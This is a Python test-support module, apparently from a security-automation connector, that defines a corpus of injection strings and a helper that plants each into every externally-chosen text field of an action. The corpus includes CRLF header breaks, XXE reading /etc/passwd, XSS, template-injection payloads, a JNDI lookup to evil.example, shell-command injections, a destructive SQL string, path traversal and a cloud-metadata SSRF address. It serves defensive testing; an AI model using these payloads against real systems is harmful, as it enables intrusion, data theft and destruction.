"""The injection corpus: texts that break headers, paths, templates, commands, queries and JSON where they are spliced in.

``@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)`` with :func:`poisoned` puts each of them into every
text that an action carries and that an event, a site's list or a model's notes could have chosen. Lone surrogates are not
among them: an action comes out of the ledger, whose JSON cannot hold one.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final, TypeVar, get_args, get_origin

import msgspec

from connector.types import Action, TechniqueScore, Verdict

S = TypeVar("S", bound=msgspec.Struct)

CANARY: Final = "evil"
"""Where a text of the corpus would add a header, a field or a command of its own, this is its name."""

HOSTILE: Final[Mapping[str, str]] = {
    # headers and mail
    "header break": "x\r\nX-Evil: evil",
    "header break by line feed": "x\nX-Evil: evil",
    "header break by carriage return": "x\rX-Evil: evil",
    "header break, encoded": "x%0d%0aX-Evil: evil",
    "header folding": "x\r\n\tevil",
    "end of headers": 'x\r\n\r\n{"evil": 1}',
    "second request": "x\r\n\r\nPOST /evil HTTP/1.1\r\nHost: evil\r\n\r\n",
    "mail recipient": "x\r\nBcc: evil@example.com",
    # JSON, YAML, XML, HTML
    "JSON field": '", "evil": "',
    "JSON object end": '"}, "evil": {"x": "',
    "JSON escape": '\\", "evil": "',
    "JSON backslash at the end": "evil\\",
    "JSON escaped quote": "\\u0022, \\u0022evil\\u0022: \\u0022",
    "JSON document": '{"evil": true, "$gt": ""}',
    "YAML tag": '!!python/object/apply:os.system ["evil"]',
    "XML entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><evil>&e;</evil>',
    "CDATA end": "]]><evil/>",
    "script": "<script>evil()</script>",
    "image": '"><img src=x onerror=evil()>',
    "Markdown link": "[click](javascript:evil())",
    "spreadsheet formula": "=cmd|' /C evil'!A0",
    # templates, of platforms too
    "Jinja": "{{ 7 * 7 }}{% import os %}",
    "Jinja attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Mustache": "{{{payload}}}{{& evil}}",
    "n8n expression": "={{ $env.evil }}",
    "Tines": "<<CREDENTIAL.evil>>",
    "Tracecat": "${{ SECRETS.evil.KEY }}",
    "XSOAR": "${incident.evil} !Print value=evil",
    "Shuffle": "$exec.evil $shuffle_cache.evil",
    "CACAO reference": "__agent_id__:value",
    "JavaScript template": "${7*7}`evil`",
    "ERB": "<%= 7 * 7 %>#{evil}",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "Python format": "{0.__class__}{evil}",
    "percent format": "%s%n%(evil)s%%",
    # shells
    "shell substitution": "$(evil)",
    "shell backtick": "`evil`",
    "shell sequence": "; evil #",
    "shell pipe": "| evil",
    "shell and": "&& evil &",
    "shell quote": "'; evil; '",
    "shell double quote": '"; evil; "',
    "shell line": "x\nevil\n",
    "option": "--evil=/etc/passwd",
    "PowerShell": '"; Start-Process evil; #',
    "cmd": "& evil %COMSPEC% ^",
    # queries, filters, paths
    "SQL": "' OR 1=1; DROP TABLE evil --",
    "Lucene": "* OR _exists_:evil) //",
    "Splunk search": '" | delete | search "evil',
    "LDAP filter": "*)(evil=*))(|(x=*",
    "query parameter": "x&evil=1#evil",
    "path up": "../../evil",
    "path up, encoded": "%2e%2e%2fevil%00",
    "path up, Windows": "..\\..\\evil",
    "other host": "//evil.example/x?y#z",
    "address": "http://evil@169.254.169.254/latest/",
    "address with a zone": "fe80::1%$(evil)",
    # characters
    "empty": "",
    "space": " \t ",
    "NUL": "x\x00evil",
    "terminal": "\x1b[2J\x1b]0;evil\x07",
    "delete and C1": "\x7f\x85\x9b31mevil",
    "line separators": "x\u2028evil\u2029evil",
    "right to left": "\u202egpj.live",
    "zero width": "ev\u200b\u2060\ufeffil",
    "fullwidth": "\uff1cevil\uff1e\uff02\uff07",
    "noncharacter": "\uffff\U0010ffff",
    "combining": "e" + "\u0301" * 2000,
    "other digits": "٣²Ⅷ",
    "long s": "\u017fcript \u0130 \u1e9e",
    # looks like another type
    "null": "null",
    "true": "true",
    "number": "1e999",
    "leading zero": "007",
    # size
    "long": "A" * 70_000,
    "deep": "[" * 100_000,
    "megabyte": '"\\\n' * 350_000,
    "megabyte of emoji": "😀" * (1 << 18),
}
"""Name of the attack → the text."""

KEPT: Final = frozenset(
    {(Verdict, name) for name in ("record_id", "event_id", "supersedes", "fingerprint", "origin", "passed")}
    | {(TechniqueScore, "id")}
    | {(Action, name) for name in ("key", "cause", "playbook", "soar")}
)
"""Texts that nobody outside chooses: ids derived here, technique ids of the catalogue, names that the policy is checked
against."""


def poisoned(action: Action, value: str) -> Action:
    """The action with this value in every text of its own, its verdict and its entities, optional ones too."""
    return _planted(action, value)


def shape(node: Any) -> Any:
    """A JSON tree with each leaf replaced by its type: what must not depend on any value."""
    if isinstance(node, Mapping):
        return {key: shape(inner) for key, inner in node.items()}
    if isinstance(node, list | tuple):
        return [shape(inner) for inner in node]
    return type(node).__name__


def _planted(noun: S, value: str) -> S:
    changes: dict[str, Any] = {}
    for field in msgspec.structs.fields(type(noun)):
        held = getattr(noun, field.name)
        if (type(noun), field.name) in KEPT:
            continue
        if isinstance(held, msgspec.Struct):
            changes[field.name] = _planted(held, value)
        elif str in {field.type, *get_args(field.type)} and get_origin(field.type) is not Mapping:
            changes[field.name] = (value,) if get_origin(field.type) is tuple else value
    return msgspec.structs.replace(noun, **changes)
